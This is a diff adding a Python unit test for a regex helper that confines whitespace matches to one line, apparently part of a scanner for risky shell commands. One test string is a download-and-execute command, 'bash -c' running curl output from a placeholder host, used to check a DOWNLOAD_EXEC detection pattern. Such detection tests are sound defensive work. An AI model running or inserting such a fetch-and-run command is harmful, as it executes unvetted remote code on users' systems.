@@ -36,3 +36,13 @@ def test_line_gated_matches_are_the_whole_text_matches(text: str) -> None:
         full = [(m.start(), m.group()) for m in r.line_local(pattern).finditer(text)]
         gated = [(m.start(), m.group()) for m in ctx.finditer(pattern, words)]
         assert gated == full, pattern.pattern[:60]
+
+
+def test_line_local_keeps_whitespace_on_one_line_and_classes_intact():
+    import re
+
+    local = r.line_local(re.compile(r"a\s+b[^\s'x]c[\s,]d(?:\s*)[\]\s]e", re.I))
+    assert local.pattern == r"a[ \t]+b[^\s'x]c[ \t,]d(?:[ \t]*)[\] \t]e" and local.flags & re.I
+    assert local.search("A \tb-c,d e") and not local.search("a\nb-c,d e") and not local.search("a b\nc,d e")
+    assert r.line_local(r.DOWNLOAD_EXEC).search('bash -c "$(curl -fsSL https://x.invalid/i.sh)"')
+    assert not r.line_local(r.DOWNLOAD_EXEC).search("iex\ncurl https://x.invalid/i")
